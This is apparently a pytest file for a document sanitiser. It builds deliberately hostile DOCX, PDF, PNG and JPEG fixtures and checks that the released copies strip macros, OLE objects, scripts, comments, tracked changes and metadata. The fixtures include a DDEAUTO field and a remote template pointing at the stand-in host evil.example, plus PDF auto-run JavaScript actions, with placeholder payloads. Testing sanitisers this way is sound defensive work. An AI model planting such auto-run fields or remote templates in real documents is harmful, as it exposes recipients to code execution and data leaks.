"""What leaves of an original: its words and looks, and none of what stood behind them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import docx
import pikepdf
import pypdfium2
import pytest
from pikepdf import Array, Dictionary, Name, Pdf

from intake.publication.released_form import DOCX, released_form
from intake.reading.extractors.docx import extract
from intake.reading.limits import Limits

NEVER = ("Secretkins", "evil.example", "PAYLOAD", "2031-05-06", "withdrawn words", "quiet remark", "unseen words")
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BODY = (
    '<w:p><w:hyperlink r:id="rIdX"><w:r><w:t>our page</w:t></w:r></w:hyperlink>'
    '<w:ins w:author="Secretkins" w:date="2031-05-06T00:00:00Z"><w:r w:rsidR="00AB12CD"><w:t xml:space="preserve"> inserted words</w:t></w:r></w:ins>'
    '<w:del w:author="Secretkins"><w:r><w:delText>withdrawn words</w:delText></w:r></w:del>'
    '<w:commentRangeStart w:id="1"/><w:r><w:t xml:space="preserve"> remarked on</w:t></w:r><w:commentRangeEnd w:id="1"/>'
    '<w:r><w:commentReference w:id="1"/></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>unseen words</w:t></w:r></w:p>'
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO evil.example PAYLOAD</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def png(text: bytes = b"") -> bytes:
    """A picture of one pixel, with a text chunk beside it."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    note = chunk(b"tEXt", b"Author\x00" + text) if text else b""
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)) + note
        + chunk(b"IDAT", zlib.compress(b"\x00\x10\x20\x30")) + chunk(b"IEND", b"") + b"after the end: Secretkins"
    )  # fmt: skip


def hostile_docx() -> bytes:
    """Macros, OLE, a remote template, a remote link, a comment, tracked changes, hidden words, a field that runs, an author."""
    document = docx.Document()
    document.core_properties.author = "Secretkins"
    document.add_heading("Reply of the Ministry", 1)
    document.add_paragraph("First answer, ").add_run("in bold").bold = True
    document.add_paragraph("a point of a list", style="List Bullet")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "left", "right"
    document.add_picture(io.BytesIO(png(b"Secretkins")))
    out = io.BytesIO()
    document.save(out)
    return _poisoned(out.getvalue())


def _poisoned(raw: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as source, zipfile.ZipFile(out, "w") as box:
        for name in source.namelist():
            content = source.read(name)
            if name == "word/document.xml":
                content = content.replace(b"<w:sectPr", BODY.encode() + b"<w:sectPr", 1)
            if name == "word/_rels/document.xml.rels":
                more = (
                    '<Relationship Id="rIdX" Type="http://x/hyperlink" Target="https://evil.example/a" TargetMode="External"/>'
                    '<Relationship Id="rIdT" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
                )
                content = content.replace(b"</Relationships>", more.encode() + b"</Relationships>")
            box.writestr(name, content)
        box.writestr("word/vbaProject.bin", b"PAYLOAD")
        box.writestr("word/embeddings/oleObject1.bin", b"PAYLOAD")
        box.writestr("word/comments.xml", f'<w:comments xmlns:w="{W}"><w:comment w:id="1" w:author="Secretkins"><w:p><w:r><w:t>quiet remark'
                     "</w:t></w:r></w:p></w:comment></w:comments>")  # fmt: skip
    return out.getvalue()


def unpacked(octets: bytes) -> str:
    """Everything in a container, names included."""
    with zipfile.ZipFile(io.BytesIO(octets)) as box:
        return "\n".join(name + "\n" + box.read(name).decode("utf-8", "replace") for name in box.namelist())


def test_a_docx_is_rebuilt_without_anything_that_bites_or_tells() -> None:
    made = released_form(hostile_docx(), DOCX)
    everything = unpacked(made.octets)
    assert not made.because
    for word in NEVER:
        assert word not in everything, word
    for mark in ("w:ins ", "w:del ", "comment", "vbaProject", "embeddings", "External", "rsid", "instrText", "docProps"):
        assert mark not in everything, mark
    assert {"macros", "ole", "external_links", "comments", "tracked_changes", "hidden_text", "fields", "metadata"} <= set(
        made.removed
    )


def test_its_words_and_looks_are_the_same() -> None:
    before, after = extract(hostile_docx(), Limits()), extract(released_form(hostile_docx(), DOCX).octets, Limits())
    assert after.text == before.text.replace("unseen words", "")
    kinds = [(block.kind, block.label) for block in after.blocks]
    assert kinds == [(block.kind, block.label) for block in before.blocks]
    assert any(run.bold for block in after.blocks for run in block.runs)
    opened = docx.Document(io.BytesIO(released_form(hostile_docx(), DOCX).octets))
    assert opened.paragraphs[0].style.name == "Heading 1"
    assert len(opened.inline_shapes) == 1
    assert len(opened.tables) == 1


def test_the_same_original_gives_the_same_octets() -> None:
    assert released_form(hostile_docx(), DOCX).octets == released_form(hostile_docx(), DOCX).octets


def test_withheld_words_are_taken_out_across_runs_and_a_miss_holds_the_file() -> None:
    made = released_form(hostile_docx(), DOCX, withheld=("answer, in\nbold",))
    assert "▇" in unpacked(made.octets)
    assert "answer" not in extract(made.octets, Limits()).text
    assert "withheld" in made.removed
    assert released_form(hostile_docx(), DOCX, withheld=("nowhere to be found",)).because == "withheld"
    assert released_form(hostile_docx(), DOCX, withheld=("ans\tx",)).because == "withheld"


def hostile_pdf() -> bytes:
    pdf = Pdf.new()
    page = pdf.add_blank_page(page_size=(300, 200))
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    # names that a page's contents use may look like keys of ours
    page.obj.Resources = Dictionary(Font=Dictionary(A=font, ID=font))
    page.obj.Contents = pdf.make_stream(b"BT /A 14 Tf 20 100 Td (shown words) Tj /ID 14 Tf 0 -20 Td (more words) Tj ET")
    page.obj.Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Text, Contents="quiet remark", T="Secretkins",
                                                          Rect=Array([0, 0, 9, 9])))])  # fmt: skip
    page.obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="PAYLOAD"))
    page.obj.PieceInfo = Dictionary(Word=Dictionary(Private="withdrawn words"))
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="PAYLOAD")
    pdf.attachments["a.txt"] = b"PAYLOAD"
    pdf.docinfo["/Author"] = "Secretkins"
    with pdf.open_metadata() as data:
        data["dc:creator"] = ["Secretkins"]
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def test_a_pdf_gives_its_pages_alone() -> None:
    made = released_form(hostile_pdf(), "application/pdf")
    assert made.pages == 1
    assert pypdfium2.PdfDocument(made.octets)[0].get_textpage().get_text_bounded().split() == ["shown", "words", "more", "words"]
    with pikepdf.open(io.BytesIO(made.octets)) as pdf:
        everything = "".join(item.unparse(resolved=True).decode("latin-1") for item in pdf.objects)
        assert set(pdf.Root.keys()) == {"/Type", "/Pages"}
        assert "/Info" not in pdf.trailer
        assert not pdf.attachments
    for word in NEVER:
        assert word not in everything, word
    assert {"metadata", "attachments", "scripts", "annotations"} <= set(made.removed)
    assert released_form(hostile_pdf(), "application/pdf").octets == made.octets


def test_a_locked_or_layered_pdf_and_one_with_withheld_words_are_listed() -> None:
    with pikepdf.open(io.BytesIO(hostile_pdf())) as pdf:
        locked, layered = io.BytesIO(), io.BytesIO()
        pdf.save(locked, encryption=pikepdf.Encryption(owner="o", user="u"))
        pdf.Root.OCProperties = Dictionary(OCGs=Array([]), D=Dictionary())
        pdf.save(layered)
    assert released_form(locked.getvalue(), "application/pdf").because == "encrypted"
    assert released_form(layered.getvalue(), "application/pdf").because == "layers"
    assert released_form(hostile_pdf(), "application/pdf", withheld=("shown words",)).because == "withheld"


def test_pictures_lose_what_stands_beside_them() -> None:
    made = released_form(png(b"Secretkins"), "image/png")
    assert made.octets == png()[: -len(b"after the end: Secretkins")]
    jpeg = b"\xff\xd8\xff\xe1\x00\x0cExif\x00\x00abcd\xff\xdb\x00\x04\x00\x01\xff\xda\x00\x04\x01\x02abc\xff\x00def\xff\xd9Secretkins"
    assert (
        released_form(jpeg, "image/jpeg").octets
        == b"\xff\xd8\xff\xdb\x00\x04\x00\x01\xff\xda\x00\x04\x01\x02abc\xff\x00def\xff\xd9"
    )


@pytest.mark.parametrize("kind", [DOCX, "application/pdf", "image/png", "image/jpeg"])
@pytest.mark.parametrize(
    "octets", [b"", b"PK\x03\x04", b"%PDF-1.7\n", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", bytes(range(256)) * 40]
)
def test_rubbish_is_listed_and_stops_nothing(kind: str, octets: bytes) -> None:
    assert released_form(octets, kind).because == "damaged"


def test_a_truncated_original_never_raises() -> None:
    for raw, kind in ((hostile_docx(), DOCX), (hostile_pdf(), "application/pdf"), (png(b"x"), "image/png")):
        for cut in range(0, len(raw), max(1, len(raw) // 60)):
            released_form(raw[:cut], kind)


def test_a_kind_that_is_not_rebuilt_is_listed() -> None:
    assert released_form(b"x", "application/zip").because == "format"
